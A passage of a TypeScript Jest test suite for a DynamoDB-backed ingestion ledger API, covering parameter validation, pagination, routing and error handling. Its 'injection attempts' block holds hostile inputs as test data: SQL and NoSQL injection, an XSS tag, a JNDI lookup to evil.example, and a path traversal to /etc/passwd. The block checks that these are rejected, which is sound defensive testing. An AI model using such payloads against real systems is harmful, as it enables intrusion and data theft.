        token.replace(/[A-Za-z0-9]/, (ch) => (ch === 'a' ? 'b' : 'a')),
        `${token}=`,
        `+${token.slice(1)}`,
      ];
      for (const bad of tampered) {
        expect(bad).not.toBe(token);
        const message = await expectError(loadHandler(), apiEvent('/ingestions', { status: 'loaded', nextToken: bad }), 400, 'InvalidNextToken');
        expect(message).toBe('nextToken is not a token this API issued for these parameters');
      }
    });
  });

  describe('validation', () => {
    const STATUS_MESSAGE = 'status must be one of received, processing, processed, retryLater, loaded, indexed, quarantined, duplicate';
    const DATASET_MESSAGE = 'dataset must be a dataset id: 1 to 64 lower-case letters, digits or _';
    const LIMIT_MESSAGE = 'limit must be an integer from 1 to 100 in plain digits';

    test.each([
      ['an unknown parameter', { order: 'asc' }, 'UnknownParameter', "unknown parameter 'order'; accepted: status, dataset, limit, nextToken"],
      ['a misspelt one', { Status: 'loaded' }, 'UnknownParameter', "unknown parameter 'Status'; accepted: status, dataset, limit, nextToken"],
      ['an unknown status', { status: 'done' }, 'InvalidParameter', STATUS_MESSAGE],
      ['an upper-case status', { status: 'LOADED' }, 'InvalidParameter', STATUS_MESSAGE],
      ['an empty status', { status: '' }, 'InvalidParameter', STATUS_MESSAGE],
      ['an upper-case dataset', { dataset: 'CARGA_ENERGIA' }, 'InvalidParameter', DATASET_MESSAGE],
      ['a dataset with a dash', { dataset: 'carga-energia' }, 'InvalidParameter', DATASET_MESSAGE],
      ['a 65-character dataset', { dataset: 'a'.repeat(65) }, 'InvalidParameter', DATASET_MESSAGE],
      ['an empty dataset', { dataset: '' }, 'InvalidParameter', DATASET_MESSAGE],
      ...['0', '101', '1000', '-1', '+5', '05', ' 5', '5 ', '5.0', '1e2', '0x10', '', 'ten', '٥', '５', '99999999999999999999'].map((v) => (
        [`limit ${JSON.stringify(v)}`, { limit: v }, 'InvalidParameter', LIMIT_MESSAGE]) as [string, Params, string, string]),
      ['an empty nextToken', { nextToken: '' }, 'InvalidNextToken', 'nextToken is not a token this API issued for these parameters'],
    ] as Array<[string, Params, string, string]>)('%s: 400 with the reason', async (_, params, code, message) => {
      expect(await expectError(loadHandler(), apiEvent('/ingestions', params), 400, code)).toBe(message);
    });

    test.each(['1', '100', '42'])('limit %s is accepted', async (limit) => {
      const body = await page(loadHandler(), { limit });
      expect(body.ingestions).toHaveLength(Math.min(Number(limit), SEEDS.length));
    });

    test.each(['status', 'dataset', 'limit', 'nextToken'])('%s given twice: 400 InvalidParameter', async (name) => {
      const values = { status: ['loaded', 'processed'], dataset: ['carga_energia', 'curva_carga'], limit: ['5', '6'], nextToken: ['a', 'b'] }[name]!;
      const event = apiEvent('/ingestions', { [name]: values[1] }, { multi: { [name]: values } });
      expect(await expectError(loadHandler(), event, 400, 'InvalidParameter')).toBe(`'${name}' is given more than once`);
    });

    test('the same value twice is still twice: 400', async () => {
      const event = apiEvent('/ingestions', { status: 'loaded' }, { multi: { status: ['loaded', 'loaded'] } });
      await expectError(loadHandler(), event, 400, 'InvalidParameter');
    });
  });

  describe('injection attempts: 400, nothing echoed', () => {
    const ATTEMPTS = [
      "loaded' OR '1'='1",
      'loaded" OR "1"="1',
      "carga_energia'; DROP TABLE ledger; --",
      '{"$ne":1}',
      '{"$gt":""}',
      '#status = :s OR attribute_exists(pk)',
      'carga\u00adenergia',
      'c\u0430rga_energia',
      'carga\uff3fenergia',
      'load\u0435d',
      'loaded\u0000',
      'carga_energia\u0000x',
      '<script>alert(1)</script>',
      '${jndi:ldap://evil.example/a}',
      '../../../etc/passwd',
      'Q'.repeat(10_000),
      'loaded'.padEnd(10_000, 'z'),
    ];
    const CODES: Record<string, string> = {
      status: 'InvalidParameter', dataset: 'InvalidParameter', limit: 'InvalidParameter', nextToken: 'InvalidNextToken',
    };

    test.each(Object.keys(CODES).flatMap((name) => ATTEMPTS.map((value, i) => [name, i, value] as const)))(
      '%s, attempt %d', async (name, _, value) => {
        const { statusCode, body, text } = await invoke(loadHandler(), apiEvent('/ingestions', { [name]: value }));
        expect(statusCode).toBe(400);
        expect((body.error as { code: string }).code).toBe(CODES[name]);
        expect(text).not.toContain(JSON.stringify(value).slice(1, -1).slice(0, 40));
        expect(text.length).toBeLessThan(400);
      });

    const asNames = ATTEMPTS.map((value, i) => [i, value] as const);
    test.each(asNames)('as a parameter name, attempt %d: UnknownParameter, the name not echoed', async (_, value) => {
      const { statusCode, body, text } = await invoke(loadHandler(), apiEvent('/ingestions', { [value]: 'loaded' }));
      expect(statusCode).toBe(400);
      const message = 'unknown parameter (a parameter with an invalid name); accepted: status, dataset, limit, nextToken';
      expect(body.error).toEqual({ code: 'UnknownParameter', message });
      expect(text).not.toContain(JSON.stringify(value).slice(1, -1).slice(0, 40));
    });

    test('a valid parameter with an injected one beside it: 400 before any read', async () => {
      const handler = loadHandler();
      const message = await expectError(handler, apiEvent('/ingestions', { 'status': 'loaded', 'dataset\u0000': 'x' }), 400, 'UnknownParameter');
      expect(message).toContain('(a parameter with an invalid name)');
    });

    test('many repetitions of a parameter: 400 InvalidParameter', async () => {
      const event = apiEvent('/ingestions', { status: 'loaded' }, { multi: { status: new Array(500).fill('loaded') } });
      await expectError(loadHandler(), event, 400, 'InvalidParameter');
    });
  });
});

// ---------------------------------------------------------------------------------------------------------------

describe('a large ledger (5200 items of one dataset, four per instant)', () => {
  const BIG = 'ons-api-ledger-big';
  const COUNT = 5200;
  const LOADED = new Set([0, 2600, 5196, 5199]);
  const items: LedgerItem[] = [];
  for (let i = 0; i < COUNT; i++) {
    const at = new Date(Date.UTC(2024, 5, 1) - Math.floor(i / 4) * 1000).toISOString();
    const key = `incoming/grande/GRANDE_${String(i % 97).padStart(2, '0')}_${i}.csv`;
    const status = LOADED.has(i) ? LedgerStatus.LOADED : LedgerStatus.PROCESSED;
    items.push({
      pk: `s3://${BUCKETS.raw}/${key}`,
      sk: `ver${(i * 7919) % 10007}`,
      bucket: BUCKETS.raw,
      key,
      versionId: `ver${(i * 7919) % 10007}`,
      size: 4096,
      status,
      history: [{ status: 'received', at }, { status: 'processing', at }, { status, at }],
      receivedAt: at,
      updatedAt: at,
      executionArn: EXECUTION,
      route: 'process',
      kind: 'tabular',
      contentHash: `sha256-big-${i}`,
      dataset: 'grande',
      start: '2023-01-01T03:00:00.000Z',
      end: '2023-02-01T03:00:00.000Z',
      rows: 10,
      records: 10,
      rejected: 0,
      series: 1,
      result: '{"status":"processed"}',
      outputs: { processedBucket: BUCKETS.processed, parquetKeys: ['processed/grande/part-0.parquet'] },
    });
  }
  const order = (list: LedgerItem[]) => [...list].sort((a, b) => Buffer.compare(bytes(b.updatedAt), bytes(a.updatedAt))
    || Buffer.compare(bytes(b.pk), bytes(a.pk)) || Buffer.compare(bytes(b.sk), bytes(a.sk)))
    .map((i) => `${i.key}?${i.sk}|${i.status}|${i.updatedAt}`);

  beforeAll(async () => {
    await createLedgerTable(raw, BIG);
    for (let i = 0; i < items.length; i += 25) {
      await ddb.send(new BatchWriteCommand({ RequestItems: { [BIG]: items.slice(i, i + 25).map((Item) => ({ PutRequest: { Item } })) } }));
    }
  }, 120_000);

  async function pages(handler: Handler, params: Record<string, string>, maxPages: number) {
    const result: Array<{ entries: string[]; token?: string }> = [];
    let token: string | undefined;
    do {
      const { statusCode, body } = await invoke(handler, apiEvent('/ingestions', { ...params, ...(token ? { nextToken: token } : {}) }));
      expect(statusCode).toBe(200);
      const b = body as unknown as { ingestions: Array<Record<string, unknown>>; nextToken?: string };
      token = b.nextToken;
      result.push({ entries: b.ingestions.map(refOf), token });
    } while (token && result.length < maxPages);
    return result;
  }

  test('a filter that skips thousands: pages may come short (the read budget) but every match comes once, in order', async () => {
    const handler = loadHandler({ [LedgerApiEnv.TABLE]: BIG });
    const got = await pages(handler, { dataset: 'grande', status: 'loaded', limit: '10' }, 20);
    expect(got.flatMap((p) => p.entries)).toEqual(order(items.filter((i) => i.status === 'loaded')));
    expect(got[got.length - 1].token).toBeUndefined();
    // The first page stops at the read budget (24 Queries of 200 items: 4800 of 5200) with two entries of ten, and a token.
    expect(got.map((p) => p.entries.length)).toEqual([2, 2]);
    expect(got[0].token).toEqual(expect.any(String));
  }, 60_000);

  test('status only, limit 3: ties of four split across pages, each entry once, in order', async () => {
    const handler = loadHandler({ [LedgerApiEnv.TABLE]: BIG });
    const got = await pages(handler, { status: 'processed', limit: '3' }, 30);
    expect(got.flatMap((p) => p.entries)).toEqual(order(items.filter((i) => i.status === 'processed')).slice(0, 90));
  }, 60_000);

  test('the merge, limit 7: ties across and within statuses, each entry once, in order', async () => {
    const handler = loadHandler({ [LedgerApiEnv.TABLE]: BIG });
    const got = await pages(handler, { limit: '7' }, 15);
    expect(got.flatMap((p) => p.entries)).toEqual(order(items).slice(0, 105));
  }, 60_000);

  test('dataset only, limit 100: the newest hundred, a token', async () => {
    const handler = loadHandler({ [LedgerApiEnv.TABLE]: BIG });
    const [first] = await pages(handler, { dataset: 'grande', limit: '100' }, 1);
    expect(first.entries).toEqual(order(items).slice(0, 100));
    expect(first.token).toEqual(expect.any(String));
  }, 60_000);
});

describe('routing and configuration', () => {
  test.each([
    ['another resource', apiEvent('/health')],
    ['a sub-resource', apiEvent('/datasets/{dataset}', null, { path: '/datasets/carga_energia' })],
    ['POST /ingestions', apiEvent('/ingestions', null, { method: 'POST' })],
    ['DELETE /datasets', apiEvent('/datasets', null, { method: 'DELETE' })],
  ])('%s: 404 NotFound', async (_, event) => {
    expect(await expectError(loadHandler(), event, 404, 'NotFound')).toBe('no such route');
  });

  test.each(['/datasets', '/ingestions'])(`${LedgerApiEnv.TABLE} unset, %s: 500 InternalError, the reason in the log only`, async (resource) => {
    const { text } = await invoke(loadHandler({ [LedgerApiEnv.TABLE]: undefined }), apiEvent(resource));
    expect(JSON.parse(text).error).toEqual({ code: 'InternalError', message: 'the request could not be completed' });
    expect(text).not.toContain(LedgerApiEnv.TABLE);
    expect(logLines()).toEqual([expect.objectContaining({ level: 'ERROR', errorMessage: `${LedgerApiEnv.TABLE} is not set` })]);
  });

  test(`${LedgerApiEnv.TIME_SERIES_DATASETS} malformed: 500, the reason in the log only`, async () => {
    await expectError(loadHandler({ [LedgerApiEnv.TIME_SERIES_DATASETS]: 'carga_energia' }), apiEvent('/datasets'), 500, 'InternalError');
    const reason = `${LedgerApiEnv.TIME_SERIES_DATASETS} must be a JSON array of dataset ids`;
    expect(logLines()).toEqual([expect.objectContaining({ errorMessage: reason })]);
  });

  test('a table that does not exist: 500 InternalError (not a busy ledger), no table name in the body', async () => {
    const handler = loadHandler({ [LedgerApiEnv.TABLE]: 'ons-no-such-table' });
    const { text } = await invoke(handler, apiEvent('/ingestions', { status: 'loaded' }));
    expect(JSON.parse(text).error.code).toBe('InternalError');
    expect(text).not.toContain('ons-no-such-table');
    expect(logLines()).toEqual([expect.objectContaining({ errorType: 'ResourceNotFoundException' })]);
  });

  test('the client is created once per container: a later environment change does not reach it', async () => {
    const handler = loadHandler();
    expect((await invoke(handler, apiEvent('/ingestions', { limit: '1' }))).statusCode).toBe(200);
    process.env[LedgerApiEnv.TABLE] = 'ons-no-such-table';
    process.env.AWS_ENDPOINT_URL_DYNAMODB = `http://127.0.0.1:${await closedPort()}`;
    expect((await invoke(handler, apiEvent('/ingestions', { limit: '1' }))).statusCode).toBe(200);
  });
});

describe('DynamoDB not answering: 503 ServiceUnavailable', () => {
  const BUSY = { error: { code: 'ServiceUnavailable', message: 'the ledger is busy; retry later' } };
  // One attempt: the SDK otherwise retries with backoff.
  const noRetries = { AWS_MAX_ATTEMPTS: '1' };

  test.each(['/datasets', '/ingestions'])('nothing listens on the endpoint, %s', async (resource) => {
    const handler = loadHandler({ ...noRetries, AWS_ENDPOINT_URL_DYNAMODB: `http://127.0.0.1:${await closedPort()}` });
    const { statusCode, body } = await invoke(handler, apiEvent(resource));
    expect(statusCode).toBe(503);
    expect(body).toEqual({ ...BUSY, requestId: expect.stringMatching(/^req-/) });
    const cause = expect.stringContaining('ECONNREFUSED');
    expect(logLines()).toEqual([expect.objectContaining({ level: 'ERROR', status: 503, code: 'ServiceUnavailable', errorMessage: cause })]);
  });

  describe('a server that answers with DynamoDB errors', () => {
    let server: HttpServer;
    let answer: { status: number; type: string };
    beforeAll(async () => {
      server = createHttpServer((req, res) => {
        req.resume();
        req.on('end', () => {
          res.writeHead(answer.status, { 'content-type': 'application/x-amz-json-1.0', 'x-amzn-requestid': 'fake' });
          res.end(JSON.stringify({ __type: `com.amazonaws.dynamodb.v20120810#${answer.type}`, message: `failed for ${BUCKETS.raw}` }));
        });
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    });
    afterAll(async () => {
      await new Promise<void>((resolve) => server.close(() => resolve()));
    });

    test.each([
      [400, 'ProvisionedThroughputExceededException', 503],
      [400, 'ThrottlingException', 503],
      [400, 'RequestLimitExceeded', 503],
      [500, 'InternalServerError', 503],
      [503, 'ServiceUnavailable', 503],
      [400, 'ValidationException', 500],
      [400, 'AccessDeniedException', 500],
    ])('HTTP %d %s: %d', async (status, type, expected) => {
      answer = { status, type };
      const port = (server.address() as AddressInfo).port;
      const handler = loadHandler({ ...noRetries, AWS_ENDPOINT_URL_DYNAMODB: `http://127.0.0.1:${port}` });
      const { statusCode, body } = await invoke(handler, apiEvent('/ingestions', { status: 'loaded' }));
      expect(statusCode).toBe(expected);
      expect((body.error as { code: string }).code).toBe(expected === 503 ? 'ServiceUnavailable' : 'InternalError');
    });
  });

  test('the endpoint accepts connections but never answers: 503 after the request timeout', async () => {
    const sockets = new Set<Socket>();
    const stalled = createServer((socket) => {
      sockets.add(socket);
      socket.on('data', () => undefined);
    });
    await new Promise<void>((resolve) => stalled.listen(0, '127.0.0.1', resolve));
    try {
      const port = (stalled.address() as AddressInfo).port;
      const handler = loadHandler({ ...noRetries, AWS_ENDPOINT_URL_DYNAMODB: `http://127.0.0.1:${port}` });
      const started = Date.now();
      const { statusCode, body } = await invoke(handler, apiEvent('/ingestions'));
      expect(statusCode).toBe(503);
      expect(body.error).toEqual(BUSY.error);
      expect(Date.now() - started).toBeLessThan(10_000);
    } finally {
      for (const socket of sockets) socket.destroy();
      await new Promise<void>((resolve) => stalled.close(() => resolve()));
    }
  }, 20_000);
});
